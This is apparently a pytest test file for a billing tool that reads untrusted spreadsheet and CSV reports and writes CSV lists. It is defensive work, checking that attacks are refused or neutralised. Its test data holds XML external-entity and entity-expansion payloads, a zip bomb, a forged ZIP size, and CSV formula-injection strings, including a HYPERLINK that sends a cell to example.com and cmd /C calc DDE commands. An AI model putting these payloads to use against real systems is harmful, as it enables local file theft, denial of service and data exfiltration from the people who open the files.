"""A file in the inbox is somebody else's: it cannot read this machine, fill it, or put formulas into our lists."""

from __future__ import annotations

import csv
import io
import struct
from dataclasses import replace
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
from openpyxl import Workbook

from billing_providers.engine.spreadsheet_csv import text_of_cell
from billing_providers.errors import SettingsError
from billing_providers.hooks import report_files, report_place
from billing_providers.hooks.report_files import read_xlsx
from billing_providers.hooks.report_place import ReportPlace
from billing_providers.steps.artifacts import write_csv
from tests.support.closing import shipped_settings

SHEET = "xl/worksheets/sheet1.xml"
BODY = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    '<c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row></sheetData></worksheet>'
)


def workbook(part: str = "", content: str = "") -> bytes:
    """Return a workbook with two rows, with one part replaced."""
    book, plain, made = Workbook(), io.BytesIO(), io.BytesIO()
    book.active.append(["customer", "quantity"])
    book.active.append(["Acme", 12])
    book.save(plain)
    with ZipFile(plain) as parts, ZipFile(made, "w", ZIP_DEFLATED) as changed:
        for name in parts.namelist():
            changed.writestr(name, content if name == part else parts.read(name))
    return made.getvalue()


def test_a_plain_workbook_is_read() -> None:
    """What the others are compared with."""
    assert read_xlsx(workbook(), where="w").rows == [(2, ["Acme", "12"])]


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "{secret}">]>',
        '<!DOCTYPE x [<!ENTITY e "harmless">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY e "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
    ids=["a file of this machine", "one word", "words of words"],
)
def test_a_workbook_with_entities_is_refused(declared: str, tmp_path: Path) -> None:
    """Whatever they stand for: a file of the worker, or a text that grows a millionfold."""
    secret = tmp_path / "secret.txt"
    secret.write_text("canary-of-the-worker")
    sheet = declared.replace("{secret}", secret.as_uri()) + BODY.format(cell="&e;")

    found = read_xlsx(workbook(SHEET, sheet), where="w")

    assert (found.headings, found.rows) == ([], [])
    assert found.broken_off.startswith("it is not a whole workbook")
    assert openpyxl.DEFUSEDXML is True


def test_a_workbook_that_unpacks_to_more_than_a_report_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    """A small file may hold a thousand times its size."""
    monkeypatch.setattr(report_files, "BYTES_MAX", 1 << 20)
    content = workbook(SHEET, BODY.format(cell="A" * (4 << 20)))
    assert len(content) < 1 << 16

    with pytest.raises(SettingsError, match=r"w: url: is too large \(4 MB\); allowed: at most 1 MB, unpacked"):
        read_xlsx(content, where="w")


def test_a_workbook_that_lies_about_its_size_gives_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """What it states is what is unpacked of it at most, so a lie is damage."""
    monkeypatch.setattr(report_files, "BYTES_MAX", 1 << 20)
    content = workbook(SHEET, BODY.format(cell="A" * (4 << 20)))
    stated = struct.pack("<I", len(BODY.format(cell="A" * (4 << 20))))
    assert content.count(stated) == 2

    found = read_xlsx(content.replace(stated, struct.pack("<I", 1000)), where="w")

    assert found.rows == []
    assert found.broken_off.startswith("it is not a whole workbook")


def test_a_file_is_read_up_to_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One that is larger than any report is refused, whatever it holds."""
    file = tmp_path / "usage.csv"
    file.write_text("customer,quantity\nAcme,12\n")
    place = ReportPlace("usage report", file.as_uri(), ())
    assert len(place.read(place.address({})).rows) == 1

    monkeypatch.setattr(report_place, "BYTES_MAX", 20)

    with pytest.raises(SettingsError, match="is too large"):
        place.read(place.address({}))


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ('=HYPERLINK("http://example.com?"&A1)', "'="),
        ("+1+cmd|' /C calc'!A0", "'+"),
        ("-2+3+cmd|' /C calc'!A0", "'-"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@"),
        ("\t=1+1", "'\t"),
        ("\r=1+1", "'\r"),
        ("-12.5", "-12"),
        ("Acme = good", "Acm"),
    ],
)
def test_a_name_is_no_formula_in_our_lists(name: str, kept: str, tmp_path: Path) -> None:
    """People open them in a spreadsheet; numbers stay numbers."""
    settings = replace(shipped_settings(), artifacts=tmp_path.as_uri())

    uri = write_csv(settings, "list.csv", ("name",), [(name,)])

    text = Path(uri.removeprefix("file://")).read_bytes().decode("utf-8-sig")
    (_, (cell,)) = csv.reader(io.StringIO(text, newline=""))
    assert cell.startswith(kept)
    assert text_of_cell(cell) == name
